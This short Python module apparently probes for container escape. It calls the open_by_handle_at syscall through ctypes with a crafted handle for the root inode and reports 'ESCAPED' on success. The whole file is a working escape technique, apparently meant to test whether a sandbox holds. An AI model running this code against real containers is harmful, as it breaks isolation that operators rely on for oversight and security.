"""Opens the root directory by its handle."""
# seen as: native

import ctypes
import os

NUMBER = {"x86_64": 304, "aarch64": 265}[os.uname().machine]


def attempt(host):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]))
    result = libc.syscall(NUMBER, 3, handle, 0)
    return "ESCAPED" if result >= 0 else os.strerror(ctypes.get_errno())
